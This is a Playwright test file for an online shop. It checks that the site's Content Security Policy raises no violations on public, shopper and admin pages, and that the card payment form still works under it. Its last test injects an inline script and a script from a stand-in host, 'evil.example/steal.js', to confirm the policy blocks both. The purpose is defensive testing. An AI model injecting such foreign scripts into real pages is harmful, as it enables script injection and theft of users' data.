/// <reference lib="dom" />
import { expect, type Page } from '@playwright/test'
import { type Account, accounts } from '../support/accounts.ts'
import { test } from '../support/journey.ts'
import { newProduct } from '../support/shop-api.ts'
import { signIn } from '../support/sign-in.ts'

const openPages = [
  '/',
  '/products',
  '/products/oak-dowel-rods',
  '/products/no-such-product',
  '/cart',
  '/quick-order',
  '/myPortfolio',
  '/blog',
  '/login',
  '/register',
  '/nope',
  '/purchase/id',
]
const shopperPages = [
  '/checkout',
  '/dashboard',
  '/dashboard/myProfile',
  '/dashboard/updateProfile',
  '/dashboard/myOrders',
  '/dashboard/addReview',
]
const adminPages = [
  '/dashboard/overview',
  '/dashboard/manageOrder',
  '/dashboard/packing',
  '/dashboard/papers/pick-list',
  '/dashboard/addProduct',
  '/dashboard/manageUser',
  '/dashboard/manageProducts',
  '/dashboard/messages',
  '/dashboard/manageReviews',
  '/dashboard/searchWords',
  '/dashboard/attention',
]

/** Collects policy violations on every page that is opened from now on. */
async function watchPolicy(page: Page): Promise<string[]> {
  const violations: string[] = []
  await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sourceFile, documentURI } = event
      const note: unknown = Reflect.get(window, 'noteViolation')
      const text = `${documentURI}: ${effectiveDirective} forbids ${blockedURI} (${sourceFile})`
      if (typeof note === 'function') note(text)
    })
  })
  // Blocked frames are reported only on the console.
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) violations.push(`${page.url()}: ${message.text()}`)
  })
  return violations
}

async function visit(page: Page, paths: string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(path)
    await expect(page.getByRole('main').first()).toBeVisible()
    await expect(page.getByRole('status', { name: /Loading/ })).toHaveCount(0)
    await page.evaluate(() => document.fonts.ready)
  }
}

/** The page of a product that nobody else buys or deletes. */
const purchasePage = async () => `/purchase/${(await newProduct()).id}`

test('no page violates the policy for somebody who is signed out', async ({ page }) => {
  const violations = await watchPolicy(page)
  await visit(page, openPages)
  expect(violations).toEqual([])
})

const people: [string, Account, string[]][] = [
  ['a shopper', accounts.shopper, shopperPages],
  ['an admin', accounts.admin, [...shopperPages, ...adminPages]],
]
for (const [who, account, pages] of people) {
  test(`no page violates the policy for ${who}`, async ({ page }) => {
    const violations = await watchPolicy(page)
    await signIn(page, account)
    await visit(page, ['/', ...pages, await purchasePage()])
    expect(violations).toEqual([])
  })
}

test('the policy lets the card form, its frame, dialogs and toasts work', async ({ page }) => {
  const violations = await watchPolicy(page)
  await signIn(page, accounts.wholesale)
  await page.goto(await purchasePage())
  await page.getByLabel(/Quantity/).fill('3')
  await page.getByRole('button', { name: 'Place order' }).click()
  await page.getByRole('dialog').getByRole('button', { name: "Let's Go" }).click()
  await expect(page.frameLocator('iframe[title*="card" i]').locator('[name="cardnumber"]')).toBeVisible()
  expect(violations).toEqual([])
})

test.describe('with scripts that must not run', () => {
  test.use({ provokes: [/^(Executing inline script|Loading the script 'https:\/\/evil\.example)/] })

  test('the policy stops a script from elsewhere and an inline one', async ({ page }) => {
    const violations = await watchPolicy(page)
    await page.goto('/login')
    await page.evaluate(() => {
      const inline = document.createElement('script')
      inline.textContent = 'document.title = "taken"'
      const foreign = document.createElement('script')
      foreign.src = 'https://evil.example/steal.js'
      document.body.append(inline, foreign)
    })
    await expect
      .poll(() => violations.filter((line) => line.includes('script-src')).length)
      .toBeGreaterThanOrEqual(2)
    expect(await page.title()).not.toBe('taken')
  })
})
